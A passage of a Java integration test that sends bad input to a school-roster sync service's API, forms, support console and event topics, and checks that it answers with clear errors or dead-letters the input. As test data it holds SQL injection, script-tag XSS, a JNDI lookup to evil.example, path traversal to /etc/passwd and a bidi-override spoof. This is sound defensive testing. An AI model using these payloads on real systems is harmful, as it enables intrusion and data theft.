package io.rosterbridge.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.CookieManager;
import java.net.CookiePolicy;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import no.nav.security.mock.oauth2.token.DefaultOAuth2TokenCallback;

import io.rosterbridge.infra.oidc.StaffIdentityProvider;

import io.rosterbridge.reliability.EventTap.Seen;
import io.rosterbridge.reliability.SyncDriver.Run;
import io.rosterbridge.sandbox.SandboxWorld;
import io.rosterbridge.sandbox.model.Role;
import io.rosterbridge.sandbox.model.User;

/**
 * Bad input at every door of the running system: the public intake API and form, the support console's forms
 * (CSRF), malformed and unknown-version events on each topic, and malformed Clever records. Each must get a clear error (4xx with a message, a log
 * line naming it) or be quarantined with its reason (roster.dead-letter); nothing else may be lost (a sync of
 * the district afterwards still matches Clever exactly) and no bad client input may cause a 5xx.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BadInputIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final AtomicInteger CLIENTS = new AtomicInteger();
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final Pattern CSRF_FIELD = Pattern.compile("name=\"csrf-token\" value=\"([^\"]+)\"");

    private static ReliabilityStack system;
    private static SyncDriver syncs;
    private static TrackedDistrict district;

    @BeforeAll
    static void start() {
        system = ReliabilityStack.shared();
        system.ensureIntegrationRequests();
        syncs = new SyncDriver(system.events, system.commands, Duration.ofMinutes(5));
        long seed = system.settings.seed() * 1_000 + 900;
        district = TrackedDistrict.generate(system, "Bad Input USD " + seed, 300, seed);
        Run run = syncs.sync(district.id, "reliability: bad-input district");
        assertThat(run.status()).isEqualTo("completed");
    }

    // ------------------------------------------------------------------------------------------- intake API

    /**
     * One case: a change to a valid submission, the statuses acceptable for it and, for a body of the wrong shape,
     * the field its error must name (null when any clear message will do).
     */
    private record Case(String name, Consumer<ObjectNode> change, List<Integer> acceptable, String namedField) {

        Case(String name, Consumer<ObjectNode> change, List<Integer> acceptable) {
            this(name, change, acceptable, null);
        }
    }

    private static final String LONG_201 = "x".repeat(201);
    private static final List<Integer> REJECT = List.of(400);
    private static final List<Integer> ACCEPT = List.of(201);
    private static final List<Integer> EITHER = List.of(201, 400);

    /** Strings that must be taken as plain text (stored and shown verbatim, never interpreted). */
    private static final Map<String, String> HOSTILE_TEXT = new LinkedHashMap<>();

    static {
        HOSTILE_TEXT.put("SQL injection", "Robert'); DROP TABLE integration_request;--");
        HOSTILE_TEXT.put("HTML/script", "<script>alert('x')</script><img src=x onerror=alert(1)>");
        HOSTILE_TEXT.put("template/JNDI", "${jndi:ldap://evil.example/a} {{7*7}} #{7*7}");
        HOSTILE_TEXT.put("unicode", "Distrito Escolar de Peñasco — 学区 🏫 مدرسة Ελληνικά e\u0301");
        HOSTILE_TEXT.put("path/format", "../../etc/passwd %s %n %x \\u0000");
    }

    /** Control characters: rejected or stored, but never a server error. */
    private static final Map<String, String> CONTROL_TEXT = Map.of(
            "NUL", "Name\u0000with NUL",
            "C0/C1 controls", "Bell\u0007 Esc\u001b[31m C1\u0085 DEL\u007f",
            "bidi override", "\u202Egnp.exe\u202C Admin",
            "lone surrogate", "bad \uD800 half");

    @Test
    @Order(1)
    void intakeApiAnswersEveryBadFieldWithAClearError() throws Exception {
        List<Case> cases = new ArrayList<>();
        for (String field : List.of("districtName", "contactName", "contactEmail")) {
            cases.add(new Case(field + " missing", b -> b.remove(field), REJECT));
            cases.add(new Case(field + " null", b -> b.putNull(field), REJECT));
            cases.add(new Case(field + " empty", b -> b.put(field, ""), REJECT));
            cases.add(new Case(field + " blank", b -> b.put(field, " \t "), REJECT));
            cases.add(new Case(field + " oversize", b -> b.put(field, field.equals("contactEmail") ? "a".repeat(250) + "@d.org" : LONG_201), REJECT));
            // Wrong JSON types are refused naming the field, never stored as "42" or "true".
            cases.add(new Case(field + " object", b -> b.putObject(field).put("x", 1), REJECT, field));
            cases.add(new Case(field + " array", b -> b.putArray(field).add("a"), REJECT, field));
            cases.add(new Case(field + " number", b -> b.put(field, 42), REJECT, field));
            cases.add(new Case(field + " boolean", b -> b.put(field, true), REJECT, field));
            CONTROL_TEXT.forEach((label, text) -> cases.add(new Case(field + " " + label, b -> b.put(field, unique(b, field, text)), EITHER)));
        }
        for (Map.Entry<String, String> hostile : HOSTILE_TEXT.entrySet()) {
            cases.add(new Case("districtName " + hostile.getKey(), b -> b.put("districtName", hostile.getValue() + " " + b.get("districtName").asText()), ACCEPT));
            cases.add(new Case("contactName " + hostile.getKey(), b -> b.put("contactName", hostile.getValue()), ACCEPT));
            cases.add(new Case("notes " + hostile.getKey(), b -> b.put("notes", hostile.getValue()), ACCEPT));
            cases.add(new Case("school name " + hostile.getKey(), b -> school(b).put("name", hostile.getValue()), ACCEPT));
            cases.add(new Case("contactEmail " + hostile.getKey(), b -> b.put("contactEmail", hostile.getValue()), REJECT));
        }
        cases.add(new Case("contactEmail without @", b -> b.put("contactEmail", "ana.district.org"), REJECT));
        cases.add(new Case("contactEmail two @", b -> b.put("contactEmail", "ana@@district.org"), REJECT));
        cases.add(new Case("contactEmail internationalised", b -> b.put("contactEmail", "ana@bücher.example"), EITHER));
        cases.add(new Case("notes oversize", b -> b.put("notes", "n".repeat(2001)), REJECT));
        cases.add(new Case("notes object", b -> b.putObject("notes"), REJECT, "notes"));
        cases.add(new Case("notes number", b -> b.put("notes", 12345), REJECT, "notes"));
        cases.add(new Case("notes empty", b -> b.put("notes", ""), ACCEPT));
        cases.add(new Case("schools missing", b -> b.remove("schools"), REJECT));
        cases.add(new Case("schools empty", b -> b.putArray("schools"), REJECT));
        cases.add(new Case("schools a string", b -> b.put("schools", "Lincoln"), REJECT, "schools"));
        cases.add(new Case("schools [null]", b -> b.putArray("schools").addNull(), REJECT));
        cases.add(new Case("schools too many", b -> {
            var schools = b.putArray("schools");
            for (int i = 0; i < 51; i++) {
                schools.addObject().put("name", "School " + i);
            }
        }, REJECT));
        cases.add(new Case("school name empty", b -> school(b).put("name", ""), REJECT));
        cases.add(new Case("school name oversize", b -> school(b).put("name", LONG_201), REJECT));
        cases.add(new Case("school name number", b -> school(b).put("name", 7), REJECT, "schools[0].name"));
        cases.add(new Case("school unknown field", b -> school(b).put("principal", "Bo"), REJECT, "schools[0].principal"));
        cases.add(new Case("cleverSchoolId not hex", b -> school(b).put("cleverSchoolId", "zzzzzzzzzzzzzzzzzzzzzzzz"), REJECT));
        cases.add(new Case("cleverSchoolId too short", b -> school(b).put("cleverSchoolId", "abc123"), REJECT));
        cases.add(new Case("cleverSchoolId injection", b -> school(b).put("cleverSchoolId", "' OR '1'='1"), REJECT));
        cases.add(new Case("cleverSchoolId twice", b -> {
            school(b).put("cleverSchoolId", "5f0c1a2b3c4d5e6f7a8b9c01");
            ((com.fasterxml.jackson.databind.node.ArrayNode) b.get("schools")).addObject().put("name", "Twin").put("cleverSchoolId", "5f0c1a2b3c4d5e6f7a8b9c01");
        }, REJECT));
        cases.add(new Case("sharedRoles missing", b -> b.remove("sharedRoles"), REJECT));
        cases.add(new Case("sharedRoles empty", b -> b.putArray("sharedRoles"), REJECT));
        cases.add(new Case("sharedRoles unknown", b -> b.putArray("sharedRoles").add("wizards"), REJECT));
        cases.add(new Case("sharedRoles a string", b -> b.put("sharedRoles", "students"), REJECT, "sharedRoles"));
        cases.add(new Case("sharedRoles [1]", b -> b.putArray("sharedRoles").add(1), REJECT, "sharedRoles[0]"));
        cases.add(new Case("sharedRoles injection", b -> b.putArray("sharedRoles").add("students'; --"), REJECT));
        cases.add(new Case("unknown extra field", b -> b.put("isAdmin", true), REJECT, "isAdmin"));

        List<String> problems = new ArrayList<>();
        int accepted = 0;
        for (Case c : cases) {
            ObjectNode body = validSubmission();
            c.change().accept(body);
            HttpResponse<String> response = postJson(body.toString(), "application/json");
            String problem = judge(c.name(), response, c.acceptable(), c.namedField());
            if (problem != null) {
                problems.add(problem);
            } else if (response.statusCode() == 201 && c.acceptable() == ACCEPT) {
                accepted++;
                String roundTrip = roundTrip(response, body);
                if (roundTrip != null) {
                    problems.add(c.name() + ": " + roundTrip);
                }
            }
        }

        // The body itself broken: each answered with the status that says why, and a message.
        Map<String, HttpResponse<String>> raw = new LinkedHashMap<>();
        Map<String, Integer> rawStatus = new LinkedHashMap<>();
        raw.put("empty body", postJson("", "application/json"));
        raw.put("not JSON", postJson("{\"districtName\": ", "application/json"));
        raw.put("JSON null", postJson("null", "application/json"));
        raw.put("JSON array", postJson("[1,2]", "application/json"));
        raw.put("JSON string", postJson("\"hello\"", "application/json"));
        raw.put("deeply nested", postJson("[".repeat(5_000) + "]".repeat(5_000), "application/json"));
        raw.put("invalid UTF-8", postBytes(new byte[] {'{', '"', 'd', (byte) 0xC3, (byte) 0x28, '"', '}'}, "application/json"));
        raw.put("notes of 20 KB", postJson(validSubmission().put("notes", "n".repeat(20_000)).toString(), "application/json"));
        rawStatus.put("body over the limit (140 KB)", 413);
        raw.put("body over the limit (140 KB)", postJson(validSubmission().put("notes", "n".repeat(140_000)).toString(), "application/json"));
        rawStatus.put("text/plain", 415);
        raw.put("text/plain", postJson(validSubmission().toString(), "text/plain"));
        rawStatus.put("form to the JSON API", 415);
        raw.put("form to the JSON API", postJson("districtName=x", "application/x-www-form-urlencoded"));
        for (Map.Entry<String, HttpResponse<String>> r : raw.entrySet()) {
            String problem = judge(r.getKey(), r.getValue(), List.of(rawStatus.getOrDefault(r.getKey(), 400)), null);
            if (problem != null) {
                problems.add(problem);
            }
        }

        // Nothing else lost: a valid request still goes through after all of that.
        HttpResponse<String> after = postJson(validSubmission().toString(), "application/json");
        if (after.statusCode() != 201) {
            problems.add("valid request after the bad ones: HTTP " + after.statusCode() + " " + abbreviate(after.body()));
        }
        system.report.note(String.format(java.util.Locale.ROOT,
                "Intake API: %d field cases + %d broken bodies sent; %d accepted as text and read back; problems: %d%s",
                cases.size(), raw.size(), accepted, problems.size(), problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).as("intake API answers").isEmpty();
    }

    @Test
    @Order(2)
    void intakeFormAnswersEveryBadFieldWithAClearPage() throws Exception {
        Map<String, Map<String, String>> cases = new LinkedHashMap<>();
        cases.put("everything empty", Map.of());
        cases.put("district name oversize", formWith("districtName", LONG_201));
        cases.put("email without @", formWith("contactEmail", "ana.district.org"));
        cases.put("unknown role", formWith("sharedRoles", "wizards"));
        cases.put("school id not hex", formWith("schools", "Lincoln Elementary | zzzzzzzzzzzzzzzzzzzzzzzz"));
        cases.put("notes oversize", formWith("notes", "n".repeat(2001)));
        // Fields over Quarkus' default form field limit (2 KB) re-render the form with their message, never a blank 413.
        cases.put("notes of 5,000 × é (10 KB)", formWith("notes", "é".repeat(5_000)));
        cases.put("notes of 20 KB", formWith("notes", "n".repeat(20_000)));
        cases.put("district name of 3,000 characters", formWith("districtName", "d".repeat(3_000)));
        List<String> problems = new ArrayList<>();
        String script = "<script>alert('x')</script>";
        for (Map.Entry<String, Map<String, String>> c : cases.entrySet()) {
            Map<String, String> form = new LinkedHashMap<>(c.getValue());
            // A hostile string in another field must come back escaped in the error page.
            form.putIfAbsent("contactName", script);
            HttpResponse<String> response = postForm(form);
            if (response.statusCode() != 400) {
                problems.add("form " + c.getKey() + ": HTTP " + response.statusCode() + " (expected 400 with the form again) " + abbreviate(response.body()));
            } else if (response.body().contains(script)) {
                problems.add("form " + c.getKey() + ": the error page echoes <script> unescaped");
            } else if (!response.body().contains("class=\"field-error\"")) {
                problems.add("form " + c.getKey() + ": 400 without a field message");
            }
        }
        for (Map.Entry<String, String> control : CONTROL_TEXT.entrySet()) {
            HttpResponse<String> response = postForm(formWith("districtName", control.getValue() + " " + UUID.randomUUID()));
            if (response.statusCode() >= 500) {
                problems.add("form district name with " + control.getKey() + ": HTTP " + response.statusCode());
            }
        }
        HttpResponse<String> unicode = postForm(formWith("districtName", HOSTILE_TEXT.get("unicode") + " " + UUID.randomUUID()));
        if (unicode.statusCode() != 303) {
            problems.add("form with a unicode district name: HTTP " + unicode.statusCode() + " (expected 303 to the status page)");
        }
        HttpResponse<String> accented = postForm(formWith("notes", "é".repeat(1_500)));
        if (accented.statusCode() != 303) {
            problems.add("form with notes of 1,500 × é (valid, 2,000 characters allowed): HTTP " + accented.statusCode() + " (expected 303)");
        }
        // Over the size that admits every valid form (128 KiB): a page that says why, not a blank 413.
        Map<String, HttpResponse<String>> pages = new LinkedHashMap<>();
        Map<String, Integer> expected = new LinkedHashMap<>();
        expected.put("form body of 140 KB", 413);
        pages.put("form body of 140 KB", postForm(formWith("notes", "n".repeat(140_000))));
        expected.put("text/plain to the form", 415);
        pages.put("text/plain to the form", postFormBody(encode(formWith("notes", "")), "text/plain", openForm()));
        expected.put("form without its CSRF token", 403);
        String forged = "Forged District " + UUID.randomUUID();
        pages.put("form without its CSRF token", postFormBody(encode(formWith("districtName", forged)), FORM, null));
        for (Map.Entry<String, HttpResponse<String>> page : pages.entrySet()) {
            String problem = judgePage(page.getKey(), page.getValue(), expected.get(page.getKey()));
            if (problem != null) {
                problems.add(problem);
            }
        }
        if (count("SELECT count(*) FROM integration_request WHERE district_name = ?", forged) != 0) {
            problems.add("the form without its CSRF token was stored");
        }
        int submissions = cases.size() + CONTROL_TEXT.size() + 2 + pages.size();
        system.report.note("Intake form: " + submissions + " submissions; problems: " + problems.size()
                + (problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).as("intake form answers").isEmpty();
    }

    @Test
    @Order(3)
    void supportConsoleRefusesAPostWithoutItsCsrfToken() throws Exception {
        // A support user's browser: signed in through the staff provider, cookies kept.
        HttpClient browser = HttpClient.newBuilder().cookieHandler(new CookieManager(null, CookiePolicy.ACCEPT_ALL))
                .followRedirects(HttpClient.Redirect.NORMAL).connectTimeout(Duration.ofSeconds(5)).build();
        system.stack.staffOidc().server().enqueueCallback(new DefaultOAuth2TokenCallback(StaffIdentityProvider.ISSUER_ID,
                "reliability-support", "JWT", List.of(ReliabilityStack.REQUESTS),
                Map.of("groups", List.of("support"), "preferred_username", "reliability-support"), 3600));
        String console = system.stack.serviceUrl(ReliabilityStack.REQUESTS) + "/support";
        HttpResponse<String> index = browser.send(HttpRequest.newBuilder(URI.create(console)).GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(index.statusCode()).as("signed in to the console").isEqualTo(200);
        String token = browser.cookieHandler().orElseThrow().get(URI.create(console), Map.of()).getOrDefault("Cookie", List.of()).stream()
                .flatMap(c -> java.util.Arrays.stream(c.split(";\\s*"))).filter(c -> c.startsWith("csrf-token="))
                .map(c -> c.substring("csrf-token=".length())).findFirst().orElse(null);
        assertThat(token).as("the console's CSRF cookie").isNotNull();
        URI sync = URI.create(console + "/integrations/" + UUID.randomUUID() + "/sync");

        List<String> problems = new ArrayList<>();
        Map<String, HttpRequest> refused = new LinkedHashMap<>();
        refused.put("form without a token", HttpRequest.newBuilder(sync).header("Content-Type", FORM).POST(HttpRequest.BodyPublishers.ofString("")).build());
        refused.put("form with a wrong token", HttpRequest.newBuilder(sync).header("Content-Type", FORM)
                .POST(HttpRequest.BodyPublishers.ofString("csrf-token=AAAAAAAAAAAAAAAAAAAAAA")).build());
        refused.put("post without a body", HttpRequest.newBuilder(sync).POST(HttpRequest.BodyPublishers.noBody()).build());
        refused.put("JSON post", HttpRequest.newBuilder(sync).header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString("{}")).build());
        for (Map.Entry<String, HttpRequest> r : refused.entrySet()) {
            HttpResponse<String> response = browser.send(r.getValue(), HttpResponse.BodyHandlers.ofString());
            String problem = judgePage("console " + r.getKey(), response, r.getKey().startsWith("form") ? 403 : 415);
            if (problem != null) {
                problems.add(problem);
            }
        }
        // The control: with the page's token the same post reaches the action (an unknown district: 404).
        HttpResponse<String> withToken = browser.send(HttpRequest.newBuilder(sync).header("Content-Type", FORM)
                .POST(HttpRequest.BodyPublishers.ofString("csrf-token=" + token)).build(), HttpResponse.BodyHandlers.ofString());
        if (withToken.statusCode() != 404) {
            problems.add("console form with its token: HTTP " + withToken.statusCode() + " (expected 404 for an unknown district)");
        }
        system.report.note("Support console: " + (refused.size() + 1) + " posts (no token, wrong token, no body, JSON, then the page's token); problems: "
                + problems.size() + (problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).as("support console answers").isEmpty();
    }

    // ------------------------------------------------------------------------------------------- events

    @Test
    @Order(4)
    void malformedRosterChangesAreDeadLetteredWithAReasonAndTheRestApplies() throws Exception {
        String d = district.id;
        String school = district.licensed.iterator().next();
        String user = "{\"kind\":\"user\",\"id\":\"%s\",\"districtId\":\"" + d + "\",\"name\":{\"first\":\"A\",\"last\":\"B\"},"
                + "\"email\":null,\"schoolIds\":[\"" + school + "\"],\"roles\":%s}";
        String change = "{\"schemaVersion\":%s,\"type\":\"roster.change\",\"eventId\":\"%s\",\"runId\":\"%s\",\"districtId\":\"" + d
                + "\",\"changeType\":\"%s\",\"entityType\":\"user\",\"entityId\":\"%s\",\"occurredAt\":\"2026-01-01T00:00:00Z\",\"record\":%s}";
        String role = "[{\"role\":\"student\",\"schoolIds\":[\"" + school + "\"]}]";
        String fakeId = "ffffffffffffffffffff0001";
        Map<String, String> bad = new LinkedHashMap<>();
        bad.put("not JSON", "{\"type\":\"roster.change\", oops");
        bad.put("empty object", "{}");
        bad.put("JSON array", "[]");
        bad.put("unknown schemaVersion 99", change.formatted(99, UUID.randomUUID(), UUID.randomUUID(), "created", fakeId, user.formatted(fakeId, role)));
        bad.put("unknown changeType", change.formatted(1, UUID.randomUUID(), UUID.randomUUID(), "exploded", fakeId, user.formatted(fakeId, role)));
        bad.put("entityId not a Clever id", change.formatted(1, UUID.randomUUID(), UUID.randomUUID(), "created", "'; DROP TABLE roster_user;--",
                user.formatted("'; DROP TABLE roster_user;--", role)));
        bad.put("user without roles", change.formatted(1, UUID.randomUUID(), UUID.randomUUID(), "created", fakeId, user.formatted(fakeId, "[]")));
        bad.put("record missing", change.formatted(1, UUID.randomUUID(), UUID.randomUUID(), "created", fakeId, "null"));
        bad.put("eventId not a UUID", change.formatted(1, "not-a-uuid", UUID.randomUUID(), "created", fakeId, user.formatted(fakeId, role)));
        bad.put("record of another entity id", change.formatted(1, UUID.randomUUID(), UUID.randomUUID(), "created", fakeId,
                user.formatted("ffffffffffffffffffff0002", role)));
        int mark = system.events.mark();
        bad.forEach((label, value) -> system.commands.send("roster.changes", d, value));
        system.commands.send("roster.changes", d, null);
        // Valid JSON the database cannot store (NUL in text): stored cleaned or dead-lettered, but the partition must flow on.
        String nulId = "ffffffffffffffffffff0003";
        system.commands.send("roster.changes", d, change.formatted(1, UUID.randomUUID(), UUID.randomUUID(), "created", nulId,
                user.formatted(nulId, role).replace("\"A\"", "\"A\\u0000B\"")));

        List<String> problems = new ArrayList<>();
        for (Map.Entry<String, String> b : bad.entrySet()) {
            Optional<Seen> letter = system.events.await(mark, EventTap.DEAD_LETTER,
                    j -> b.getValue().equals(j.path("payload").asText(null)), Duration.ofSeconds(60));
            if (letter.isEmpty()) {
                problems.add("roster.changes " + b.getKey() + ": not dead-lettered");
            } else if (letter.get().json().path("reason").asText("").isBlank()) {
                problems.add("roster.changes " + b.getKey() + ": dead-lettered without a reason");
            } else {
                System.out.println("[reliability] dead letter (" + b.getKey() + "): " + letter.get().json().path("reason").asText());
            }
        }
        if (system.events.await(mark, EventTap.DEAD_LETTER, j -> j.path("payload").isNull(), Duration.ofSeconds(10)).isEmpty()) {
            problems.add("roster.changes tombstone (null value): not dead-lettered");
        }
        if (system.roster.users(d).containsKey(fakeId)) {
            problems.add("a malformed change reached roster_user (" + fakeId + ")");
        }
        if (!system.ready(ReliabilityStack.WRITER)) {
            problems.add("roster-writer not ready after the malformed changes");
        }
        // Nothing else lost: good changes after the bad ones still apply.
        world().renameUser(world().userIds(d, Role.TEACHER).get(0), "After", "BadInput");
        problems.addAll(syncAndCompare("after malformed roster.changes"));
        system.report.note("roster.changes: " + (bad.size() + 1) + " malformed records sent; problems: " + problems.size()
                + (problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).isEmpty();
    }

    @Test
    @Order(5)
    void malformedCommandsAndLinksAreRefusedAndTheFetcherKeepsWorking() throws Exception {
        String d = district.id;
        String bogus = "eeeeeeeeeeeeeeeeeeee" + String.format("%04x", (int) (system.settings.seed() & 0xFFFF));
        Map<String, String> commands = new LinkedHashMap<>();
        String commandTemplate = "{\"schemaVersion\":%s,\"commandId\":\"%s\",\"command\":\"%s\",\"districtId\":\"%s\",\"runId\":%s,"
                + "\"requestedBy\":\"reliability-bad-input\",\"reason\":null,\"requestedAt\":\"2026-01-01T00:00:00Z\"}";
        commands.put("not JSON", "sync now please");
        commands.put("unknown schemaVersion 2", commandTemplate.formatted(2, UUID.randomUUID(), "sync", d, "null"));
        commands.put("unknown command", commandTemplate.formatted(1, UUID.randomUUID(), "explode", d, "null"));
        commands.put("approve-held without runId", commandTemplate.formatted(1, UUID.randomUUID(), "approve-held", d, "null"));
        commands.put("approve-held runId not a UUID", commandTemplate.formatted(1, UUID.randomUUID(), "approve-held", d, "\"12\""));
        commands.put("approve-held of an unknown run", commandTemplate.formatted(1, UUID.randomUUID(), "approve-held", d, "\"" + UUID.randomUUID() + "\""));
        commands.put("sync of an unlinked district", commandTemplate.formatted(1, UUID.randomUUID(), "sync", "0123456789abcdef01234567", "null"));
        commands.put("districtId injection", commandTemplate.formatted(1, UUID.randomUUID(), "sync", "x'; DROP TABLE sync_run;--", "null"));
        Map<String, String> links = new LinkedHashMap<>();
        String linkTemplate = "{\"schemaVersion\":%s,\"districtId\":\"" + bogus + "\",\"organisationId\":\"org\",\"districtName\":\"Bogus\","
                + "\"status\":\"%s\",\"licensedSchoolIds\":%s,\"updatedAt\":\"2026-01-01T00:00:00Z\"}";
        links.put("not JSON", "{{{");
        links.put("unknown schemaVersion 2", linkTemplate.formatted(2, "active", "[]"));
        links.put("unknown status", linkTemplate.formatted(1, "exploded", "[]"));
        links.put("licensedSchoolIds a string", linkTemplate.formatted(1, "active", "\"all\""));
        links.put("updatedAt not a date", linkTemplate.formatted(1, "active", "[]").replace("2026-01-01T00:00:00Z", "yesterday"));

        int mark = system.events.mark();
        commands.forEach((label, value) -> system.commands.send(CommandPublisher.SYNC_REQUESTS, d, value));
        links.forEach((label, value) -> system.commands.send(CommandPublisher.DISTRICT_LINKS, bogus, value));
        List<String> problems = new ArrayList<>();
        // The consumers are behind these records once a good command sent after them is executed.
        Run run = syncs.sync(d, "reliability: after malformed commands");
        if (!"completed".equals(run.status())) {
            problems.add("sync after malformed commands: " + run.status() + " " + run.reason());
        }
        if (system.events.find(mark, EventTap.SYNC_RUNS, j -> "reliability-bad-input".equals(j.path("requestedBy").asText())).isPresent()) {
            problems.add("a sync.requests command of unknown schemaVersion 2 was executed (a run started) instead of refused");
        }
        if (linked(bogus)) {
            problems.add("district.links: a malformed link (unknown schemaVersion or status) was stored as district " + bogus);
        }
        String log = Files.readString(system.stack.process(ReliabilityStack.FETCHER).log());
        for (Map.Entry<String, String> c : commands.entrySet()) {
            JsonNode json = parse(c.getValue());
            String id = json == null ? null : json.path("commandId").asText(null);
            boolean explained = id == null ? log.contains("unreadable sync.requests") : log.contains(id);
            if (!explained && !c.getKey().startsWith("unknown schemaVersion")) {
                problems.add("sync.requests " + c.getKey() + ": no log line explains what became of it");
            }
        }
        for (String service : List.of(ReliabilityStack.FETCHER, ReliabilityStack.REQUESTS)) {
            if (!system.ready(service)) {
                problems.add(service + " not ready after malformed sync.requests / district.links");
            }
        }
        system.report.note("sync.requests: " + commands.size() + " and district.links: " + links.size()
                + " malformed records sent; problems: " + problems.size() + (problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).isEmpty();
    }

    @Test
    @Order(6)
    void malformedLifecycleEventsDoNotStopIntegrationRequests() throws Exception {
        String d = district.id;
        List<String> bad = List.of("garbage", "{}", "[]",
                "{\"schemaVersion\":99,\"eventId\":\"" + UUID.randomUUID() + "\",\"runId\":\"" + UUID.randomUUID() + "\",\"districtId\":\"" + d
                        + "\",\"status\":\"exploded\",\"trigger\":\"support\",\"occurredAt\":\"now\"}",
                "{\"schemaVersion\":1,\"eventId\":\"x\",\"runId\":\"y\",\"districtId\":\"" + d + "\",\"appliedAt\":\"never\",\"counts\":{\"created\":-1},\"fullSnapshot\":\"yes\"}");
        for (String value : bad) {
            system.commands.send(EventTap.SYNC_RUNS, d, value);
            system.commands.send(EventTap.ROSTER_APPLIED, d, value);
        }
        system.commands.send(EventTap.SYNC_RUNS, d, null);
        system.commands.send(EventTap.ROSTER_APPLIED, d, null);
        List<String> problems = new ArrayList<>();
        // Good lifecycle events after the bad ones: one more real sync flows through both topics.
        Run run = syncs.sync(d, "reliability: after malformed lifecycle events");
        if (!"completed".equals(run.status())) {
            problems.add("sync after malformed lifecycle events: " + run.status());
        }
        Thread.sleep(3_000);
        for (String service : List.of(ReliabilityStack.REQUESTS, ReliabilityStack.FETCHER, ReliabilityStack.WRITER)) {
            if (!system.ready(service)) {
                problems.add(service + " not ready after malformed sync.runs / roster.applied");
            }
        }
        system.report.note("sync.runs and roster.applied: " + (bad.size() + 1) + " malformed records each; problems: " + problems.size()
                + (problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).isEmpty();
    }

    // ------------------------------------------------------------------------------------------- Clever records

    @Test
    @Order(7)
    void malformedCleverRecordsAreHandledAndNothingElseIsLost() throws Exception {
        SandboxWorld world = world();
        String d = district.id;
        List<String> schools = new ArrayList<>(district.licensed);
        String noName = world.addUser(d, Role.STUDENT, List.of(schools.get(0)), null, null, "noname@example.org");
        String badEmail = world.addUser(d, Role.TEACHER, List.of(schools.get(0)), "Ana", "NoAt", "ana.example.org");
        String hostileName = world.addUser(d, Role.STAFF, List.of(schools.get(0)), "<script>alert(1)</script>", "O'Brien", null);
        // Records the world API refuses to build: placed straight into the district's data (no sync is running).
        String unknownSchool = world.nextId();
        String unknownEnum = world.nextId();
        String ghostSchool = "ffffffffffffffffffffff01";
        long now = world.clock().millis();
        var users = world.districtData(d).users();
        users.put(unknownSchool, new User(unknownSchool, d, 900_001, "Ghost", null, "School", null, null,
                new User.StudentRole(new String[] {ghostSchool}, "3", "F", "1/1/2015", "2034", now, now), null, null, null, now, now));
        users.put(unknownEnum, new User(unknownEnum, d, 900_002, "Odd", null, "Enum", null, null,
                new User.StudentRole(new String[] {schools.get(0)}, "Grade 13½", "Q", "31/02/2010", "someday", now, now), null, null, null, now, now));

        List<String> problems = new ArrayList<>(syncAndCompare("after malformed Clever records"));
        var rows = system.roster.users(d);
        if (!rows.containsKey(noName) || !rows.get(noName).active()) {
            problems.add("the user without a name was lost");
        }
        if (!rows.containsKey(badEmail) || !rows.get(badEmail).active()) {
            problems.add("the user whose e-mail has no @ was lost");
        }
        if (!rows.containsKey(hostileName) || !rows.get(hostileName).active()) {
            problems.add("the user with a hostile name was lost");
        }
        if (rows.containsKey(unknownSchool) && rows.get(unknownSchool).active()) {
            problems.add("the user in an unknown school is on the roster");
        }
        JsonNode odd = readUser(unknownEnum);
        if (odd == null || !"Grade 13½".equals(odd.path("roles").path(0).path("attributes").path("grade").asText())) {
            problems.add("the student with an unknown grade value was not kept as sent: " + odd);
        }
        system.report.note("Clever records: a user without a name, an e-mail without @, a hostile name (<script>, O'Brien), a student in a school "
                + "the district does not have, and unknown enum values (grade, gender) synced; problems: " + problems.size()
                + (problems.isEmpty() ? "" : " — " + String.join("; ", problems)));
        assertThat(problems).isEmpty();
    }

    // ------------------------------------------------------------------------------------------- helpers

    private static SandboxWorld world() {
        return system.world();
    }

    private static List<String> syncAndCompare(String when) throws Exception {
        List<String> problems = new ArrayList<>();
        Run run = syncs.sync(district.id, "reliability: " + when);
        if (!"completed".equals(run.status())) {
            problems.add(when + ": run " + run.status() + " " + run.reason());
            return problems;
        }
        if (!run.terminal().path("counts").equals(run.applied().path("counts"))) {
            problems.add(when + ": run announced " + run.terminal().path("counts") + ", writer applied " + run.applied().path("counts"));
        }
        RosterComparison.Result result = district.compare(system);
        result.mismatches().forEach(m -> problems.add(when + ": " + m));
        return problems;
    }

    private static ObjectNode validSubmission() {
        ObjectNode body = JSON.createObjectNode();
        body.put("districtName", "Reliability District " + UUID.randomUUID());
        body.putArray("schools").addObject().put("name", "Lincoln Elementary").putNull("cleverSchoolId");
        body.put("contactName", "Ana Admin");
        body.put("contactEmail", "ana@district.org");
        body.putArray("sharedRoles").add("students").add("teachers");
        body.putNull("notes");
        return body;
    }

    private static ObjectNode school(ObjectNode body) {
        return (ObjectNode) body.get("schools").get(0);
    }

    private static String unique(ObjectNode body, String field, String text) {
